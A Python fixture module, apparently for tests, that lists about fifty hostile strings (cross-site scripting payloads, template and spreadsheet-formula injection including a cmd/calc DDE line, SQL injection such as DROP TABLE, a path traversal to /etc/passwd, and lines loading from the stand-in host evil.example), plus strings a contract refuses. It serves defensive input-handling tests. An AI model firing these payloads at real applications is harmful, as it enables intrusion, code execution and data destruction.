"""Texts that do harm where they are taken for anything but text: as markup, a template, a formula, a query.

One that runs sets `window.broken`, or asks evil.example.
Add here: a kind of harm. Not here: where the texts are shown (the tests).
"""

HOSTILE = [
    "<script>window.broken=1</script>",
    "<img src=x onerror=window.broken=1>",
    "<svg/onload=window.broken=1>",
    "<iframe srcdoc='<script>parent.broken=1</script>'>",
    "<details open ontoggle=window.broken=1>",
    "<math><mtext></p><img src=x onerror=window.broken=1>",
    "<a href=javascript:window.broken=1>a</a>",
    "<style>@import 'http://evil.example/a.css'</style>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input autofocus onfocus=window.broken=1>",
    "<object data=http://evil.example/o>",
    "'\"><img src=x onerror=window.broken=1>",
    '"onmouseover="window.broken=1',
    "</script><script>window.broken=1</script>",
    "</textarea></title>--><script>window.broken=1</script>",
    "]]><script>window.broken=1</script>",
    "<\u017fcript>window.broken=1</\u017fcript>",
    "<script src=//evil.example/x.js></script>",
    "a\nb<img src=x onerror=window.broken=1>",
    "{{constructor.constructor('window.broken=1')()}}",
    "${window.broken=1}",
    "#{window.broken=1}",
    "<%= window.broken=1 %>",
    "{a|window.broken=1}",
    "{b}{c}{@[0]}",
    "$\\frac{1}{0}$ \\$x$",
    "javascript:window.broken=1",
    "![x](http://evil.example/x.png) [x](javascript:window.broken=1)",
    "`<img src=x onerror=window.broken=1>`",
    "&lt;script&gt;window.broken=1&lt;/script&gt; &#60;img src=x onerror=window.broken=1&#62;",
    "\\u003cimg src=x onerror=window.broken=1\\u003e",
    "%3Cscript%3Ewindow.broken=1%3C/script%3E",
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    " \u200b=1+1",
    "\uff1d1+1",
    "a;=1+1;b",
    "a\t=1+1\r\n=1+1",
    "'; DROP TABLE product_sales; --",
    "' OR '1'='1",
    "%' UNION SELECT 1 --",
    "../../etc/passwd",
    "\x1b]0;broken\x07\x1b[2J\x1b[31mred",
    "bell\x07\x08delete\x7f\x85next",
    "\u202egnirts\u2066 \u2028window.broken=1\u2029",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f3f3\ufe0f\u200d\U0001f308 Z\u0335\u0321\u0353\u0354a\u0336l",
    "long " * 204,
]
"""Fifty that the contract accepts as a brand, a category or a session."""

REFUSED = ["nul\0nul", "long " * 20_000]
"""Two that it refuses."""
